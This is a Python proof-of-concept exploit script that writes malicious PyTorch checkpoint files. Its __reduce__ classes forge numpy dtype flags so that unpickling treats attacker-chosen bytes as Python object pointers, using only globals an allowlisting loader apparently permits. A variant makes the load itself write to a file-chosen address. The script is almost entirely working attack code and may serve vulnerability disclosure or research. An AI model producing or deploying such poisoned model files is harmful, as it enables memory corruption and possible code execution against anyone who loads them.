"""numpy.dtype's __setstate__ takes the dtype's flags from the pickle. An object dtype whose
flags say "no Python objects" lets ndarray.__setstate__ take raw bytes as PyObject pointers:
the pickle forges object pointers (here 0x4141414141414141, so the load crashes on access;
with a known address it would hand Python a fake object). Only ckpt "data"-tier globals are
used (numpy.dtype, numpy.ndarray, numpy._core.multiarray._reconstruct, ObjectDType)."""
import sys

import numpy as np
import torch

out = sys.argv[1] if len(sys.argv) > 1 else "model.pt"

class ForgedDType:
    def __reduce__(self):
        # flags 0: not NPY_LIST_PICKLE / NPY_ITEM_HASOBJECT
        return (np.dtype, ("O8", False, True), (3, "|", None, None, None, -1, -1, 0))

class ForgedArray:
    def __reduce__(self):
        return (np._core.multiarray._reconstruct, (np.ndarray, (0,), b"b"),
                (1, (1,), ForgedDType(), False, (0x4141414141414141).to_bytes(8, "little")))

torch.save({"weight": torch.zeros(2), "extra": ForgedArray(),
            "kind": np.dtypes.ObjectDType}, out)
print("wrote", out)

# Variant: numpy scalar() with the forged dtype INCREFs the pointer while torch.load unpickles
# (a write to an address the file chooses): the load itself crashes.
class ForgedScalar:
    def __reduce__(self):
        return (np._core.multiarray.scalar,
                (ForgedDType(), (0x4141414141414141).to_bytes(8, "little")))

torch.save({"weight": torch.zeros(2), "s": ForgedScalar()}, "scalar_" + out)
print("wrote", "scalar_" + out)
